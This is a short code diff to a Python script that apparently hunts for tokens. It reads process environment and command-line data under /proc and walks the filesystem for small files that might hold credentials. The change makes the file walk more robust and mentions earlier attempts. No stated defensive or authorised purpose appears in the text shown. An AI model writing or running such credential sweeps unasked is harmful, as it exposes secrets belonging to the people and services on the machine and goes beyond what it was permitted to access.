@@ -52,6 +52,7 @@ await grab("proc environ", lambda: proc("environ"))
 await grab("proc cmdline", lambda: proc("cmdline"))
 # The image's read-only /usr was built before any login (hundreds of MB with the data-science
 # libraries): it cannot hold a token, and reading it all takes minutes on a busy machine.
+import stat
 frozen = ("/usr",) if os.statvfs("/usr").f_flag & os.ST_RDONLY else ()
 def files():
     hits, read = [], 0
@@ -62,7 +63,9 @@ def files():
         for name in names:
             path = os.path.join(root, name)
             try:
-                if os.path.islink(path) or os.path.getsize(path) > 1 << 20:
+                info = os.lstat(path)
+                # Regular files only: earlier attempts leave FIFOs, whose open() would wait for a writer.
+                if not stat.S_ISREG(info.st_mode) or info.st_size > 1 << 20:
                     continue
                 data = open(path, "rb").read().decode(errors="replace")
             except OSError:
